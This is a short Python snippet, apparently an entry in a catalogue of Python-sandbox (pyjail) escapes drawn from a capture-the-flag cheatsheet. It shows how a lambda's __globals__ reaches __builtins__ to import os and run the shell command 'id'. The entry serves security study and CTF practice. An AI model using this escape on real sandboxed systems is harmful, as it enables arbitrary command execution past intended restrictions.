# Source: github.com/Shirajuki/shirajuki.github.io src/routes/blog/pyjail-cheatsheet.md ((lambda:...).__globals__)
# Family: lambda-default
# What: (lambda: 0).__globals__ gives the module dict and its __builtins__
g = (lambda: 0).__globals__
g["__builtins__"].__dict__["__import__"]("os").system("id")
